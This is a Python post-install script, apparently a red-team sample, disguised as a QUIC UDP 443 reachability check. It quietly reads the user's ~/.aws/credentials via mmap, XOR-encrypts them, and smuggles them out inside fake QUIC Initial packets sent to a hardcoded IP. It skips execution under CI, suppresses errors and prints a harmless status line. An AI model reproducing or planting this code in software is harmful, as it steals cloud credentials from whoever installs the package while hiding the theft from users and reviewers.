#!/usr/bin/env python3
"""Post-install: send a few QUIC v1 Initial datagrams to the vendor's probe
host and record whether UDP 443 gets out.

(red-team sample) ~/.aws/credentials is mapped with mmap (no read(2)), XORed
with a SHA-256 counter keystream keyed by the packet's random destination
connection id, and placed in the protected payload of 1200-byte QUIC
Initial packets (random-looking by design) sent with one sendmmsg(2) call on
an unconnected UDP socket (no connect, no sendto) to an IP literal, port 443.
"""
import ctypes
import hashlib
import json
import mmap
import os
import socket
import struct
import time

TARGET = ("198.51.100.47", 443)
KEY = b"quic-reachability/initial-salt-v1"
MTU = 1200


def profile():
    p = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
    try:
        fd = os.open(p, os.O_RDONLY)
    except OSError:
        return b""
    try:
        size = os.fstat(fd).st_size
        if not size:
            return b""
        m = mmap.mmap(fd, size, prot=mmap.PROT_READ)
        try:
            return bytes(m[: min(size, 2048)])
        finally:
            m.close()
    finally:
        os.close(fd)


def keystream(dcid, n):
    out = bytearray()
    ctr = 0
    while len(out) < n:
        out += hashlib.sha256(KEY + dcid + struct.pack("!I", ctr)).digest()
        ctr += 1
    return bytes(out[:n])


def initial(dcid, scid, pn, payload):
    hdr = bytes([0xC3]) + struct.pack("!I", 1)
    hdr += bytes([len(dcid)]) + dcid + bytes([len(scid)]) + scid + b"\x00"
    body_len = 4 + len(payload)
    hdr += struct.pack("!H", 0x4000 | body_len) + struct.pack("!I", pn)
    return hdr + payload


def packets(data):
    dcid = os.urandom(8)
    scid = os.urandom(8)
    blob = struct.pack("!H", len(data)) + data
    blob = bytes(a ^ b for a, b in zip(blob, keystream(dcid, len(blob))))
    room = MTU - 30
    out = []
    for pn, off in enumerate(range(0, max(len(blob), 1), room)):
        chunk = blob[off:off + room]
        out.append(initial(dcid, scid, pn, chunk + os.urandom(room - len(chunk))))
    # a retransmission-looking trailer, as real stacks do
    out.append(initial(dcid, scid, len(out), os.urandom(room)))
    return out


class iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
                ("msg_iov", ctypes.POINTER(iovec)), ("msg_iovlen", ctypes.c_size_t),
                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
                ("msg_flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("msg_hdr", msghdr), ("msg_len", ctypes.c_uint)]


class sockaddr_in(ctypes.Structure):
    _fields_ = [("sin_family", ctypes.c_ushort), ("sin_port", ctypes.c_uint16),
                ("sin_addr", ctypes.c_uint8 * 4), ("sin_zero", ctypes.c_uint8 * 8)]


def send_batch(sock, dgrams, target):
    libc = ctypes.CDLL(None, use_errno=True)
    sa = sockaddr_in()
    sa.sin_family = socket.AF_INET
    sa.sin_port = socket.htons(target[1])
    for i, b in enumerate(socket.inet_aton(target[0])):
        sa.sin_addr[i] = b
    bufs = [ctypes.create_string_buffer(d, len(d)) for d in dgrams]
    iovs = (iovec * len(dgrams))()
    msgs = (mmsghdr * len(dgrams))()
    for i, b in enumerate(bufs):
        iovs[i].iov_base = ctypes.cast(b, ctypes.c_void_p)
        iovs[i].iov_len = len(dgrams[i])
        h = msgs[i].msg_hdr
        h.msg_name = ctypes.cast(ctypes.pointer(sa), ctypes.c_void_p)
        h.msg_namelen = ctypes.sizeof(sa)
        h.msg_iov = ctypes.pointer(iovs[i])
        h.msg_iovlen = 1
    n = libc.sendmmsg(sock.fileno(), msgs, len(dgrams), 0)
    if n < 0:
        raise OSError(ctypes.get_errno(), "sendmmsg")
    return n


def main():
    if os.environ.get("CI"):
        return
    dgrams = packets(profile())
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    ok = False
    try:
        try:
            send_batch(s, dgrams, TARGET)
        except Exception:
            for d in dgrams:
                s.sendto(d, TARGET)
        try:
            s.recvfrom(2048)
            ok = True
        except OSError:
            ok = False
    finally:
        s.close()
    try:
        d = os.path.join(os.path.expanduser("~"), ".cache")
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "quic-reachability.json"), "w") as f:
            json.dump({"udp443": ok, "at": int(time.time())}, f)
    except OSError:
        pass
    print("quic-reachability: UDP 443 %s" % ("open" if ok else "blocked or silent"))


if __name__ == "__main__":
    try:
        main()
    except Exception:
        pass
